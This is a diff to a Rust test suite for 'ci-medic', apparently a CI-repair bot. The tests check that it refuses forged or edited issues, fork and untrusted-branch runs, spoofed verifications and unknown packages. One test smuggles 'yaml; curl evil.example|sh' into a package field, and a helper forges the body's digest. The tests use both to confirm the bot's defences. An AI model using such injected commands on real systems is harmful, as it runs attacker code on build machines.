@@ -67,9 +67,14 @@ async fn analysed_issue_with(fake: &FakeGithub, wf: &str, log: String) -> u64 {
 /// Fails `pytest -q` in job `test (3.12)` of the CI workflow with `log`,
 /// and lets `analyze` file the one issue.
 async fn analyse_failed_run(fake: &FakeGithub, log: String) -> u64 {
+    analyse_run(fake, RunBuilder::new("CI"), log).await
+}
+
+/// [`analyse_failed_run`] for a run seeded from `run` (a pull request's...).
+async fn analyse_run(fake: &FakeGithub, run: RunBuilder, log: String) -> u64 {
     let run = fake
         .add_run(
-            RunBuilder::new("CI").path(CI_WORKFLOW_PATH).job(
+            run.path(CI_WORKFLOW_PATH).job(
                 JobBuilder::failed("test (3.12)")
                     .step("Set up job", Some("success"))
                     .step("Run actions/checkout@v4", Some("success"))
@@ -81,9 +86,16 @@ async fn analyse_failed_run(fake: &FakeGithub, log: String) -> u64 {
             ),
         )
         .id;
-    let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
-    let payload =
-        workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "failure", DEFAULT_BRANCH, &sha);
+    let seeded = fake.run(run).expect("run");
+    let branch = seeded.head_branch.unwrap_or_default();
+    let payload = workflow_run_payload(
+        run,
+        "CI",
+        CI_WORKFLOW_PATH,
+        "failure",
+        &branch,
+        &seeded.head_sha,
+    );
     let out = Runner::new(fake).run_event("workflow_run", &payload).await;
     assert_eq!(
         out.code, 0,
@@ -234,7 +246,22 @@ async fn labeled_issue_becomes_one_pull_request_and_triggers_again_update_it() {
         pr.labels
     );
     let pr_body = pr.body.clone().unwrap_or_default();
-    assert!(pr_body.contains(&format!("Fixes #{n}.")), "{pr_body}");
+    let needles: Vec<String> = vec![
+        format!("Fixes #{n}."),
+        format!("<!-- ci-medic:heal:{n} -->"),
+        "No module named 'yaml'".into(),
+        "+          pip install pytest PyYAML   # the runner".into(),
+        "`PyYAML`".into(),
+        "<!-- ci-medic:heal-workflow:.github/workflows/ci.yml -->".into(),
+        // What was installed and why it is the right package.
+        "Why `PyYAML`: ci-medic's table of import names maps module `yaml` to it.".into(),
+    ];
+    for needle in &needles {
+        assert!(
+            pr_body.contains(needle.as_str()),
+            "missing {needle:?} in\n{pr_body}"
+        );
+    }
     assert_snap!("heal_pull_request", format!("# {}\n\n{pr_body}", pr.title));
 
     // The issue points at it; the fixed workflow runs on the branch.
@@ -439,7 +466,7 @@ async fn untrusted_issues_get_one_explanation_and_no_pull_request() {
 }
 
 #[tokio::test]
-async fn a_maintainer_applying_auto_heal_vouches_for_the_issue() {
+async fn a_maintainers_label_does_not_vouch_for_someone_elses_issue() {
     let fake = FakeGithub::start().await;
     let body = copied_body(&fake).await;
     let n = fake.add_issue(
@@ -451,12 +478,64 @@ async fn a_maintainer_applying_auto_heal_vouches_for_the_issue() {
     maintainer_labels(&fake, n, "auto-heal", true);
     let out = labeled(&fake, n).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
-    let pulls = fake.pulls();
-    assert_eq!(pulls.len(), 1);
-    assert!(fake.branch(&pulls[0].head_ref).is_some());
-    fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pulls[0].number)));
-    fake.expect_dispatches(&[&pulls[0].head_ref]);
-    fake.expect_no_reruns();
+    assert!(fake.pulls().is_empty());
+    assert!(
+        fake.requests_to("POST", r"/git/").is_empty(),
+        "nothing committed"
+    );
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    assert!(
+        comments[0]
+            .body
+            .contains("only from issues it filed itself"),
+        "{}",
+        comments[0].body
+    );
+    fake.assert_clean();
+}
+
+/// `body` with `edit` applied and its digest recomputed, as someone with
+/// write access who knows how ci-medic seals its bodies could do.
+fn forged(body: &str, edit: impl Fn(&str) -> String) -> String {
+    use sha2::Digest as _;
+    let field = |d: &str| format!("\"body_sha256\":\"{d}\"");
+    let start = body.rfind("\"body_sha256\":\"").expect("digest") + 15;
+    let old = &body[start..start + 64];
+    let zeros = "0".repeat(64);
+    let unsealed = edit(&body.replace(&field(old), &field(&zeros)));
+    let digest: String = sha2::Sha256::digest(unsealed.as_bytes())
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    unsealed.replace(&field(&zeros), &field(&digest))
+}
+
+#[tokio::test]
+async fn an_edited_issue_body_is_refused() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
+    // Someone changes a word of the prose; the block is left alone.
+    let edited = body.replacen("### Failed jobs", "### Failed jobs (see below)", 1);
+    assert_ne!(edited, body);
+    edit_issue(&fake, n, |i| i.body = Some(edited.clone()));
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    assert!(
+        fake.requests_to("POST", r"/git/").is_empty(),
+        "nothing committed"
+    );
+    assert!(fake.dispatches().is_empty());
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    let c = &comments[0].body;
+    assert!(
+        c.starts_with(&format!("<!-- ci-medic:heal-refused:{n} -->")),
+        "{c}"
+    );
+    assert!(c.contains("edited after ci-medic wrote it"), "{c}");
     fake.assert_clean();
 }
 
@@ -464,12 +543,15 @@ async fn a_maintainer_applying_auto_heal_vouches_for_the_issue() {
 async fn hostile_analysis_blocks_are_not_acted_on() {
     let fake = FakeGithub::start().await;
     let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
-    // The bot's own issue, but a package name that tries to run a command.
+    // The bot's own issue, but a package name that tries to run a command,
+    // with the body's digest recomputed: the block's own checks refuse it.
     let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
-    let hostile = body.replace(
-        "\"package\":\"yaml\"",
-        "\"package\":\"yaml; curl evil.example|sh\"",
-    );
+    let hostile = forged(&body, |b| {
+        b.replace(
+            "\"package\":\"yaml\"",
+            "\"package\":\"yaml; curl evil.example|sh\"",
+        )
+    });
     assert_ne!(hostile, body);
     edit_issue(&fake, n, |i| i.body = Some(hostile.clone()));
     let out = labeled(&fake, n).await;
@@ -484,6 +566,123 @@ async fn hostile_analysis_blocks_are_not_acted_on() {
             .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
     );
     fake.expect_labels_created(&["needs-manual-fix"]);
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_fork_pull_requests_failure_never_leads_to_a_branch_pull_request_or_dispatch() {
+    let fake = FakeGithub::start().await;
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[(CI_WORKFLOW_PATH, PY_WORKFLOW), CONFIG],
+        "Python CI",
+    );
+    let sha = fake.head_sha(DEFAULT_BRANCH);
+    let run = RunBuilder::new("CI")
+        .event("pull_request")
+        .head_branch("patch-1")
+        .head_sha(&sha)
+        .head_repository("mallory/octo-repo");
+    let n = analyse_run(&fake, run, missing_named_module_log("evilpkg")).await;
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    assert!(
+        fake.requests_to("POST", r"/git/").is_empty(),
+        "nothing committed"
+    );
+    assert!(fake.dispatches().is_empty(), "nothing dispatched");
+    assert_eq!(fake.refs().len(), 1, "no branch: {:?}", fake.refs());
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    let c = &comments[0].body;
+    assert!(
+        c.starts_with(&format!("<!-- ci-medic:heal-manual:{n} -->")),
+        "{c}"
+    );
+    assert!(c.contains("does not act on this failure"), "{c}");
+    // (Markdown escapes aside.)
+    assert!(c.replace('\\', "").contains("`pull_request` event"), "{c}");
+    assert!(
+        fake.issue(n)
+            .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
+    );
+    // The issue recorded where the run came from.
+    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
+    assert!(
+        body.contains("\"head_repository\":\"mallory/octo-repo\""),
+        "{body}"
+    );
+    let _ = fake.labels();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_branch_that_is_not_trusted_is_not_healed() {
+    let fake = FakeGithub::start().await;
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[(CI_WORKFLOW_PATH, PY_WORKFLOW), CONFIG],
+        "Python CI",
+    );
+    let sha = fake.head_sha(DEFAULT_BRANCH);
+    fake.set_branch("experiment", &sha);
+    // A push run of the base repository, but not on the default branch.
+    let run = RunBuilder::new("CI").head_branch("experiment");
+    let n = analyse_run(&fake, run, missing_module_log(1, "tmpa1b2c3")).await;
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    let comments = fake.comments(n);
+    assert!(
+        comments[0]
+            .body
+            .replace('\\', "")
+            .contains("`heal.trusted-branches`"),
+        "{}",
+        comments[0].body
+    );
+    let _ = fake.labels();
+
+    // Once configured as trusted, it is.
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[(
+            ".github/ci-medic.yml",
+            "retry:\n  enabled: false\nheal:\n  trusted-branches: [experiment]\n",
+        )],
+        "Trust the experiment branch",
+    );
+    edit_issue(&fake, n, |i| i.labels.retain(|l| l != "needs-manual-fix"));
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let pulls = fake.pulls();
+    assert_eq!(pulls.len(), 1);
+    assert!(fake.branch(&pulls[0].head_ref).is_some());
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+    let _ = fake.runs();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_re_trigger_by_someone_without_write_access_is_refused() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    fake.set_permission("mallory", "triage");
+    let payload = issues_payload(&fake, n, "reopened", "auto-heal", "mallory");
+    let out = Runner::new(&fake).run_event("issues", &payload).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    assert!(
+        comments[0]
+            .body
+            .contains("who triggered this, has triage access"),
+        "{}",
+        comments[0].body
+    );
     fake.assert_clean();
 }
 
@@ -558,17 +757,15 @@ async fn a_verification_run_is_reported_on_the_pull_request() {
     let pr = fake.pulls().pop().expect("pull request");
     assert!(fake.branch(&pr.head_ref).is_some());
     fake.expect_comment(n, |b| b.contains(&format!("Opened #{}", pr.number)));
-    fake.expect_dispatches(&[&pr.head_ref]);
-    let run = fake
-        .add_run(
-            RunBuilder::new("CI")
-                .path(CI_WORKFLOW_PATH)
-                .event("workflow_dispatch")
-                .head_branch(&pr.head_ref)
-                .job(JobBuilder::new("test (3.12)")),
-        )
-        .id;
+    // The run ci-medic's own dispatch started finishes.
+    let dispatches = fake.dispatches();
+    let run = dispatches[0].run_id.expect("the dispatch started a run");
+    fake.update_run(run, |r, _| {
+        r.status = "completed".into();
+        r.conclusion = Some("success".into());
+    });
     let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
+    assert_eq!(sha, pr.head_sha);
     let payload = workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "success", &pr.head_ref, &sha);
     let out = Runner::new(&fake).run_event("workflow_run", &payload).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
@@ -583,5 +780,135 @@ async fn a_verification_run_is_reported_on_the_pull_request() {
     );
     assert_snap!("heal_verified_comment", comments[0].body);
     fake.expect_no_reruns();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_spoofed_verification_run_is_ignored() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    assert_eq!(labeled(&fake, n).await.code, 0);
+    let pr = fake.pulls().pop().expect("pull request");
+    assert!(fake.branch(&pr.head_ref).is_some());
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+    let _ = fake.runs();
+    // A fork's pull request from a branch named like the fix's passes.
+    let spoofed = fake
+        .add_run(
+            RunBuilder::new("CI")
+                .path(CI_WORKFLOW_PATH)
+                .event("pull_request")
+                .head_branch(&pr.head_ref)
+                .head_repository("mallory/octo-repo")
+                .actor("mallory")
+                .job(JobBuilder::new("test (3.12)")),
+        )
+        .id;
+    let sha = fake.run(spoofed).map(|r| r.head_sha).unwrap_or_default();
+    let payload = workflow_run_payload(
+        spoofed,
+        "CI",
+        CI_WORKFLOW_PATH,
+        "success",
+        &pr.head_ref,
+        &sha,
+    );
+    let out = Runner::new(&fake).run_event("workflow_run", &payload).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout.contains("is not a verification of a fix"),
+        "{}",
+        out.stdout
+    );
+    assert!(fake.comments(pr.number).is_empty(), "nothing announced");
+    fake.assert_clean();
+}
+
+/// A log whose test collection fails on `import <module>`.
+fn missing_named_module_log(module: &str) -> String {
+    gha_log(
+        2,
+        "pytest -q",
+        &[
+            "tests/test_config.py:1: in <module>",
+            &format!("    import {module}"),
+            &format!("E   ModuleNotFoundError: No module named '{module}'"),
+            "ERROR tests/test_config.py",
+        ],
+    )
+}
+
+#[tokio::test]
+async fn an_unknown_module_the_repository_names_is_installed() {
+    let fake = FakeGithub::start().await;
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[
+            (CI_WORKFLOW_PATH, PY_WORKFLOW),
+            ("requirements.txt", "# runtime\ntmpq-lib==1.4\n"),
+        ],
+        "Requirements",
+    );
+    let n = analysed_issue_with(&fake, PY_WORKFLOW, missing_named_module_log("tmpq_lib")).await;
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let pr = fake.pulls().pop().expect("pull request");
+    assert_eq!(
+        fake.file(&pr.head_ref, CI_WORKFLOW_PATH).as_deref(),
+        Some(
+            PY_WORKFLOW
+                .replace(
+                    "pip install pytest   # the runner",
+                    "pip install pytest tmpq-lib   # the runner"
+                )
+                .as_str()
+        )
+    );
+    let body = pr.body.unwrap_or_default();
+    assert!(
+        body.contains("the repository's own `requirements.txt` names this distribution"),
+        "{body}"
+    );
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+    let _ = fake.runs();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn an_unknown_module_nobody_names_needs_a_manual_fix() {
+    let fake = FakeGithub::start().await;
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[
+            (CI_WORKFLOW_PATH, PY_WORKFLOW),
+            ("requirements.txt", "requests\n"),
+        ],
+        "Requirements",
+    );
+    let n = analysed_issue_with(&fake, PY_WORKFLOW, missing_named_module_log("evilpkg")).await;
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    assert!(
+        fake.requests_to("POST", r"/git/").is_empty(),
+        "nothing committed"
+    );
+    assert!(fake.dispatches().is_empty());
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    let c = &comments[0].body;
+    assert!(
+        c.starts_with(&format!("<!-- ci-medic:heal-manual:{n} -->")),
+        "{c}"
+    );
+    assert!(c.contains("cannot tell which package"), "{c}");
+    assert!(c.contains("`evilpkg`"), "{c}");
+    assert!(
+        fake.issue(n)
+            .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
+    );
+    let _ = fake.labels();
     fake.assert_clean();
 }
